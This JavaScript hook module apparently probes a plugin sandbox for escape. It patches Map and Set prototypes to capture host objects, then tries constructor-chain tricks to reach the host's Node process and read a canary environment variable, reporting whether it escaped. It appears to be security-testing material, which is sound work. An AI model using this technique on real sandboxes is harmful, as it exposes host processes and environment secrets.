// Maps and sets replaced: tables of the other side show themselves.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const kept = [];
    const real = [];
    for (const Kind of [Map, Set, WeakMap, WeakSet])
      for (const name of ['get', 'set', 'has', 'add', 'delete', 'forEach']) {
        const original = Kind.prototype[name];
        if (original === undefined) continue;
        Kind.prototype[name] = function (...given) {
          kept[kept.length] = this;
          for (let at = 0; at < given.length; at += 1) kept[kept.length] = given[at];
          return Reflect.apply(original, this, given);
        };
        real[real.length] = [Kind, name, original];
      }
    try {
      ctx.log.info(new Map([[1, 2]]), new Set([1]));
      await ctx.storage.get('k');
      require('./nothing');
      setTimeout(() => {}, 1);
    } catch (error) {
      kept[kept.length] = error;
    }
    for (const [Kind, name, original] of real) Kind.prototype[name] = original;
    for (const each of kept.slice(0, 500)) look(each);
    return { metadata: verdict() };
  },
};
